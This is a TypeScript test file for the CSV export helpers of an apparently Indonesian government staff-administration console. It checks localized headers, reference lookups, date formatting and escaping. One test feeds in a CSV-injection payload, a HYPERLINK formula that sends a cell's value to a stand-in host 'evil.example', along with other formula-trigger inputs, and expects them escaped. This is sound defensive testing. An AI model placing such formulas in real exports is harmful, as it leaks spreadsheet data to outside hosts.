import type { FetchRelatedRecords } from 'react-admin';
import { describe, expect, it } from 'vitest';
import { EMPLOYEE_CSV_COLUMNS } from '../resources/employees/employee-list';
import Papa from 'papaparse';
import { csvRows, csvText, fetchReferences, OWNER_AGENCY_COLUMN, toCsv, type CsvColumn } from './export';

/** A dictionary translator: known keys in words, others their `_` default or the key itself. */
const messages: Record<string, string> = {
  'resources.orgUnits.fields.code': 'Kode',
  'resources.orgUnits.fields.kind': 'Jenis',
  'resources.orgUnits.fields.parentId': 'Unit induk',
  'resources.orgUnits.fields.active': 'Aktif',
  'resources.orgUnits.fields.updatedAt': 'Diperbarui',
  'resources.orgUnits.fields.agencyId': 'Instansi',
  'resources.orgUnits.kinds.DINAS': 'Dinas',
  'app.configuration.national': 'Nasional',
  'ra.boolean.true': 'Ya',
  'ra.boolean.false': 'Tidak',
};
const translate = (key: string, options?: Record<string, unknown>) => messages[key] ?? (options?._ as string | undefined) ?? key;

const columns: CsvColumn[] = [
  { source: 'code' },
  { source: 'kind', choices: [{ id: 'DINAS', name: 'resources.orgUnits.kinds.DINAS' }] },
  { source: 'parentId', reference: 'orgUnits' },
  { source: 'active', boolean: true },
  OWNER_AGENCY_COLUMN,
];

describe('CSV export rows', () => {
  it('name the columns in the console’s language and put words and names for enums, booleans and references', () => {
    const related = { orgUnits: { u1: { id: 'u1', name: 'Dinas Kesehatan' } }, agencies: { a1: { id: 'a1', name: 'Kota Tebing Tinggi' } } };
    const rows = csvRows(
      'orgUnits',
      [
        { id: 'u2', code: 'PKM', kind: 'DINAS', parentId: 'u1', active: true, agencyId: 'a1' },
        { id: 'u3', code: 'X', kind: 'UNKNOWN', parentId: null, active: false, agencyId: null },
      ],
      columns,
      translate,
      related,
    );
    expect(rows).toEqual([
      { Kode: 'PKM', Jenis: 'Dinas', 'Unit induk': 'Dinas Kesehatan', Aktif: 'Ya', Instansi: 'Kota Tebing Tinggi' },
      { Kode: 'X', Jenis: 'UNKNOWN', 'Unit induk': '', Aktif: 'Tidak', Instansi: 'Nasional' },
    ]);
  });

  it('write date-times as local YYYY-MM-DD HH:mm and keep calendar dates as they are', () => {
    const [row] = csvRows(
      'orgUnits',
      [{ id: 1, updatedAt: '2026-03-04T05:06:00.000Z', code: '2026-01-31' }],
      [{ source: 'updatedAt', dateTime: true }, { source: 'code' }],
      translate,
    );
    const local = new Date('2026-03-04T05:06:00.000Z');
    expect(row!.Diperbarui).toBe(
      `${local.getFullYear()}-03-${String(local.getDate()).padStart(2, '0')} ${String(local.getHours()).padStart(2, '0')}:${String(local.getMinutes()).padStart(2, '0')}`,
    );
    expect(row!.Kode).toBe('2026-01-31');
  });

  it('fetch each referenced resource once for the whole export', async () => {
    const calls: string[] = [];
    const fetchRelated = (async (_records: unknown[], field: string, resource: string) => {
      calls.push(`${resource}:${field}`);
      return { x: { id: 'x', name: resource } };
    }) as FetchRelatedRecords;
    const related = await fetchReferences([{ id: 1, parentId: 'u1', agencyId: 'a1' }], columns, fetchRelated);
    expect(calls).toEqual(['orgUnits:parentId', 'agencies:agencyId']);
    expect(Object.keys(related)).toEqual(['orgUnits', 'agencies']);
  });

  it('give the employees’ list names, ranks and words instead of IDs', () => {
    const [row] = csvRows(
      'employees',
      [
        {
          id: 'e1',
          nip: '199001012015012007',
          fullName: 'Siti Aminah, S.Kep.',
          employmentType: 'PNS',
          golongan: 'III_B',
          status: 'AKTIF',
          unitId: 'u1',
          unit: { name: 'Puskesmas Kertapati' },
          positionId: 'p1',
          position: { name: 'Pengelola Layanan' },
        },
      ],
      EMPLOYEE_CSV_COLUMNS,
      translate,
    );
    expect(Object.values(row!)).toEqual([
      '199001012015012007',
      'Siti Aminah, S.Kep.',
      'resources.employees.employmentTypes.PNS',
      'III/b',
      '',
      'Pengelola Layanan',
      'Puskesmas Kertapati',
      'resources.employees.statuses.AKTIF',
    ]);
  });
});

describe('CSV text (every CSV the console writes)', () => {
  it('writes formula-like cells as text and quotes what needs quoting (OWASP CSV injection)', () => {
    const csv = toCsv([
      { Perihal: '=HYPERLINK("http://evil.example/?d="&A1,"Klik")', Nilai: -5 },
      { Perihal: '+1', Nilai: 1 },
      { Perihal: '-1', Nilai: 2 },
      { Perihal: '@SUM(A1)', Nilai: 3 },
      { Perihal: '\tx', Nilai: 4 },
      { Perihal: '\rx', Nilai: 5 },
      { Perihal: '  =1', Nilai: 6 },
      { Perihal: '\uFF1D1', Nilai: 7 },
      { Perihal: 'a, "b"\nc', Nilai: 8 },
      { Perihal: 'nama@contoh.go.id', Nilai: 9 },
    ]);
    const rows = Papa.parse<string[]>(csv).data;
    expect(rows.map((row) => row[0])).toEqual([
      'Perihal',
      `'=HYPERLINK("http://evil.example/?d="&A1,"Klik")`,
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      "'  =1",
      "'\uFF1D1",
      'a, "b"\nc',
      'nama@contoh.go.id',
    ]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klik"")",-5`);
  });

  it('goes through the same helper from a list’s columns (csvText)', async () => {
    const csv = await csvText(
      'orgUnits',
      [{ id: 'u1', code: '@cmd' }],
      [{ source: 'code' }],
      translate,
      (async () => ({})) as FetchRelatedRecords,
    );
    expect(csv).toBe(`Kode\r\n"'@cmd"`);
  });
});
